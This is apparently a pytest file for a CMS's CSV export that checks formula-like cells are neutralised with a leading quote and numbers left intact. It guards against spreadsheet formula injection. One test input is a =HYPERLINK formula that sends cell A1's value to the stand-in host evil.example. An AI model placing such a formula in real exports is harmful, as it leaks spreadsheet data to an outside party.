"""CSV cells that a spreadsheet would run as a formula arrive as text; numbers stay numbers."""

import csv
import io

import pytest

from cms.core.csv_export import SafeCSVWriter, neutralise_cell


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Klick")',
        ),
        ("+SUM(1;2)", "'+SUM(1;2)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Marketing = Vertrieb", "Marketing = Vertrieb"),
        ("", ""),
        ("-1.5", "-1.5"),
        (-1.5, -1.5),
        (42, 42),
        (None, None),
    ],
)
def test_formula_text_gets_a_quote_and_numbers_stay(value, expected):
    assert neutralise_cell(value) == expected


def test_writer_neutralises_every_cell_of_a_row():
    out = io.StringIO()
    SafeCSVWriter(out).writerow(["=1+1", 3, "-4"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "3", "-4"]
